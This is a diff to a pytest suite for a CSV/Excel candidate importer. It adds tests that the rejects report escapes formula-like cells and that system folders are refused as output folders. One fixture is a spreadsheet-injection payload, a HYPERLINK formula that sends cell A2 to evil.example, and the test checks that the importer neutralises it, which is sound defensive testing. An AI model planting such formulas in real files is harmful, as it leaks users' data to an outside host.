@@ -6,6 +6,7 @@ received carrying the cells exactly as typed. Files that cannot be imported end 
 exit-2 error instead.
 """
 
+import csv
 import io
 import random
 import time
@@ -16,15 +17,19 @@ from typing import Any
 import pytest
 
 from importer.cli import main
+from importer.read.escape import REJECTS_EXTRA_COLUMNS, escape_formula
+from importer.read.tables import open_table
 from tests.sandboxed import DATA, DEFAULT_MAPPING, SAMPLES, Imported, import_file
 
 CREATED = ("created", "")
 MAPPINGS = DATA / "mappings"
 
 
-def run(tmp_path: Path, name: str, mapping: str | None = None, **options: Any) -> Imported:
+def run(
+    tmp_path: Path, name: str, mapping: str | None = None, data: Path = DATA, **options: Any
+) -> Imported:
     chosen = DEFAULT_MAPPING if mapping is None else MAPPINGS / mapping
-    return import_file(DATA / name, tmp_path / "out", chosen, **options)
+    return import_file(data / name, tmp_path / "out", chosen, **options)
 
 
 def assert_rejected(
@@ -43,7 +48,8 @@ def assert_rejected(
     assert f'column "{column}"' in message
     assert f'"{value}"' in message
     (reject,) = [r for r in imported.rejects if r["error_row"] == str(row)]
-    assert reject[column] == (value if cell is None else cell)  # the original cell, unchanged
+    # the original cell, written so that Excel shows it as text (read back as typed)
+    assert reject[column] == escape_formula(value if cell is None else cell)
     assert reject["error_code"].split(";")[0] == code
     assert reject["error_field"].split(";")[0] == field
 
@@ -68,7 +74,7 @@ def test_bom_and_crlf_the_first_header_still_maps(tmp_path: Path) -> None:
     imported = run(tmp_path, "bom_crlf.csv")
     assert imported.outcomes() == {2: CREATED, 3: CREATED}
     assert imported.body(2)["first_name"] == "Zoë"
-    assert imported.body(2)["phone_numbers"] == [{"phone": "+447700900123"}]
+    assert imported.body(2)["phone_numbers"] == [{"phone": "+447911123123"}]
     assert imported.body(3)["last_name"] == "Núñez"
 
 
@@ -160,7 +166,7 @@ def test_a_repeated_header_the_mapping_reads_is_a_clear_error(
 def test_repeated_and_empty_headers_the_mapping_does_not_read_are_ignored(tmp_path: Path) -> None:
     imported = run(tmp_path, "duplicate_headers.csv", "duplicate_headers.yaml")
     assert imported.outcomes() == {2: CREATED}
-    assert imported.body(2) == {"name": "Ann", "phone_numbers": [{"phone": "+447700900001"}]}
+    assert imported.body(2) == {"name": "Ann", "phone_numbers": [{"phone": "+447911123001"}]}
 
 
 def test_header_row_below_a_title_keeps_spreadsheet_row_numbers(tmp_path: Path) -> None:
@@ -318,16 +324,91 @@ def test_a_cell_past_the_reading_limit_stops_the_file_with_the_flag_to_raise_it(
     assert "never closed" not in err
 
 
+# -- reports that Excel opens safely and that import again ------------------------------------
+
+RISKY = [
+    '=HYPERLINK("http://evil.example/?"&A2,"CV")',
+    "+44 20 7946 0958",
+    "-",
+    "@SUM(1+1)",
+    "'=typed with an apostrophe",
+    "'s-Hertogenbosch",
+]
+
+
+def test_rejects_csv_is_formula_safe_in_the_input_delimiter_and_reads_back_as_typed(
+    tmp_path: Path,
+) -> None:
+    path = tmp_path / "european.csv"
+    rows = [["Ann", "ann@example.com", *RISKY], ["Bob", "bob@", *RISKY]]  # Bob is rejected
+    header = ["Name", "Email", "Notes", "Phone", "Dash", "At", "Apostrophe", "City"]
+    with path.open("w", newline="", encoding="utf-8") as f:
+        csv.writer(f, delimiter=";").writerows([header, *rows])
+    imported = run(tmp_path, "european.csv", data=tmp_path, dry_run=True)
+    assert imported.outcomes() == {2: ("not_attempted", ""), 3: ("rejected", "invalid-email")}
+    text = (tmp_path / "out" / "rejects.csv").read_text(encoding="utf-8-sig")
+    assert text.splitlines()[0] == ";".join([*header, *REJECTS_EXTRA_COLUMNS])
+    (reject,) = imported.rejects
+    written = [reject[column] for column in header[2:]]
+    assert written == ["'" + cell if cell != "'s-Hertogenbosch" else cell for cell in RISKY]
+    with open_table(tmp_path / "out" / "rejects.csv") as table:
+        (again,) = list(table.rows)
+    assert list(again.values[: len(header)]) == rows[1]  # as typed, apostrophes included
+
+
+# -- the reports' folder ------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("out", "message"),
+    [
+        ("a-file.txt", "is a file, not a folder: give a folder for the reports"),
+        ("/", "is a system or home folder: give a folder of the reports' own"),
+        ("/etc", "is a system or home folder: give a folder of the reports' own"),
+        ("/proc/no/such", "cannot make the --out folder /proc/no/such: No such file or directory"),
+    ],
+)
+def test_an_out_folder_the_reports_must_not_go_to_is_refused_before_anything_is_sent(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], out: str, message: str
+) -> None:
+    (tmp_path / "a-file.txt").write_text("keep me")
+    target = out if out.startswith("/") else str(tmp_path / out)
+    sample = str(SAMPLES / "candidates.csv")
+    err = cli_error(capsys, "run", sample, "-m", str(DEFAULT_MAPPING), "--sandbox", "--out", target)
+    assert message in err
+    assert (tmp_path / "a-file.txt").read_text() == "keep me"
+
+
+def test_rejects_imported_again_never_overwrite_the_reports_beside_them(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    sample, mapping = str(SAMPLES / "candidates.csv"), str(DEFAULT_MAPPING)
+    assert main(["validate", sample, "-m", mapping, "--quiet"]) == 1
+    first = tmp_path / "out" / "candidates" / "rejects.csv"
+    assert main(["validate", str(first), "-m", mapping, "--quiet"]) == 1
+    second = tmp_path / "out" / "rejects" / "rejects.csv"  # out/<input name>, as always
+    before = second.read_bytes()
+    assert main(["validate", str(second), "-m", mapping, "--quiet"]) == 1
+    assert (tmp_path / "out" / "rejects-2" / "rejects.csv").exists()  # not its own folder
+    assert second.read_bytes() == before
+    capsys.readouterr()
+    err = cli_error(capsys, "validate", str(second), "-m", mapping, "--out", str(second.parent))
+    assert "is the folder of" in err
+    assert "the reports would replace the ones there" in err
+
+
 # -- values Excel or a type-guessing reader would mangle ---------------------------------------
 
 
 def test_text_values_are_sent_exactly_as_typed(tmp_path: Path) -> None:
     imported = run(tmp_path, "text_values.csv", "text_values.yaml")
-    assert imported.outcomes() == {2: CREATED, 3: ("rejected", "missing-name")}
+    # +1 (555) 010-9999 is a number of the length of a US one, in a range given to no one
+    assert imported.outcomes() == {2: CREATED, 3: ("rejected", "invalid-phone;missing-name")}
     assert imported.body(2) == {
         "name": "Al",
         "country": "NA",  # Namibia, not a missing value
-        "phone_numbers": [{"phone": "+447700900123"}],
+        "phone_numbers": [{"phone": "+447911123123"}],
         "passthrough": {"legacy_id": "007"},
         "custom_fields": [
             {"name": "Middle Name", "value": "null"},
@@ -336,7 +417,7 @@ def test_text_values_are_sent_exactly_as_typed(tmp_path: Path) -> None:
             {"name": "Flag", "value": True},
         ],
     }
-    assert imported.message(3) == 'the row has no name; fill in "Nickname"'
+    assert imported.message(3).endswith('; the row has no name; fill in "Nickname"')
 
 
 def test_scientific_notation_typed_as_text_is_precision_lost_and_never_sent(
@@ -345,13 +426,13 @@ def test_scientific_notation_typed_as_text_is_precision_lost_and_never_sent(
     imported = run(tmp_path, "text_values.csv", "text_values_excel_phone.yaml")
     assert imported.outcomes() == {
         2: ("rejected", "precision-lost"),
-        3: ("rejected", "precision-lost;missing-name"),
+        3: ("rejected", "invalid-phone;precision-lost;missing-name"),
     }
     assert_rejected(
         imported, 2, "precision-lost", "Excel Phone", "4.47701E+11", "phone_numbers[1].phone"
     )
-    assert_rejected(
-        imported, 3, "precision-lost", "Excel Phone", "1.23457E+15", "phone_numbers[1].phone"
+    assert 'column "Excel Phone": "1.23457E+15" is a number that Excel shortened' in (
+        imported.message(3)
     )
     assert imported.bodies == {}
     assert imported.summary.requests_by_status == {}
@@ -364,7 +445,7 @@ def test_scientific_notation_with_a_decimal_comma_is_precision_lost_not_split(
     assert imported.outcomes() == {2: ("rejected", "precision-lost"), 3: CREATED}
     assert_rejected(imported, 2, "precision-lost", "Phone", "4,47701E+11", "phone_numbers[0].phone")
     assert imported.body(3)["phone_numbers"] == [
-        {"phone": "+447700900123"},
+        {"phone": "+447911123123"},
         {"phone": "+442079460000"},
     ]
 
@@ -374,7 +455,7 @@ def test_phones_stored_as_numbers_arrive_whole(tmp_path: Path) -> None:
     assert imported.outcomes() == {2: CREATED, 3: CREATED}
     assert imported.body(2) == {
         "name": "Ann",
-        "phone_numbers": [{"phone": "+447700112233"}, {"phone": "+447700900123", "type": "mobile"}],
+        "phone_numbers": [{"phone": "+447700112233"}, {"phone": "+447911123123", "type": "mobile"}],
         "passthrough": {"legacy_id": "000123"},
         "custom_fields": [{"name": "Years", "value": 7}, {"name": "Active", "value": True}],
     }
@@ -458,7 +539,7 @@ def test_a_used_range_of_1048576_rows_imports_its_real_rows_quickly(tmp_path: Pa
     imported = run(tmp_path, "used_range_1048576.xlsx")
     assert time.perf_counter() - started < 5
     assert imported.outcomes() == dict.fromkeys([2, 3, 4, 5], CREATED)
-    assert imported.body(5)["phone_numbers"] == [{"phone": "+447700900004"}]
+    assert imported.body(5)["phone_numbers"] == [{"phone": "+447911123004"}]
 
 
 def test_a_table_lower_down_keeps_its_sheet_row_numbers(tmp_path: Path) -> None:
@@ -471,7 +552,7 @@ def test_a_table_lower_down_keeps_its_sheet_row_numbers(tmp_path: Path) -> None:
         7: blank,
         8: ("rejected", "ragged-row"),  # a stray value past the header
     }
-    assert imported.body(4)["phone_numbers"] == [{"phone": "+447700900001"}]  # a number cell
+    assert imported.body(4)["phone_numbers"] == [{"phone": "+447911123001"}]  # a number cell
     assert "extra cells: '', 'stray'" in imported.message(8)
 
 
@@ -480,15 +561,10 @@ def test_a_table_lower_down_keeps_its_sheet_row_numbers(tmp_path: Path) -> None:
 
 def test_multi_value_cells_first_email_every_phone_every_link(tmp_path: Path) -> None:
     imported = run(tmp_path, "multi_value.csv")
-    assert imported.outcomes() == {
-        2: CREATED,
-        3: CREATED,
-        4: CREATED,
-        5: ("rejected", "invalid-phone"),
-    }
+    assert imported.outcomes() == dict.fromkeys([2, 3, 4, 5], CREATED)
     ann = imported.body(2)
     assert ann["email"] == "ann@example.com"
-    assert ann["phone_numbers"] == [{"phone": "+442079460000"}, {"phone": "+447700900001"}]
+    assert ann["phone_numbers"] == [{"phone": "+442079460000"}, {"phone": "+447911123001"}]
     assert ann["social_links"] == [
         {"url": "https://www.linkedin.com/in/annlee", "type": "linkedin"},
         {"url": "https://github.com/annlee", "type": "github"},
@@ -502,8 +578,13 @@ def test_multi_value_cells_first_email_every_phone_every_link(tmp_path: Path) ->
     ]
     cy = imported.body(4)
     assert (cy["email"], cy["phone_numbers"]) == ("cy@example.com", [{"phone": "+442079460002"}])
-    cell = "+44 20 7946 0003, 12"
-    assert_rejected(imported, 5, "invalid-phone", "Phones", "12", "phone_numbers[1].phone", cell)
+    # the mapping keeps numbers it cannot read: sent as typed, with a warning naming the cell
+    assert imported.body(5)["phone_numbers"] == [{"phone": "+442079460003"}, {"phone": "12"}]
+    assert imported.result(5)["warnings"] == (
+        'kept-as-typed: column "Phones": "12" is too short in GB (the mapping\'s region); write '
+        "the full number, with + and the country code if it is from another country; sent as typed"
+    )
+    assert imported.summary.counts.by_warning == {"kept-as-typed": 1}
 
 
 # -- the corpus is covered ---------------------------------------------------------------------
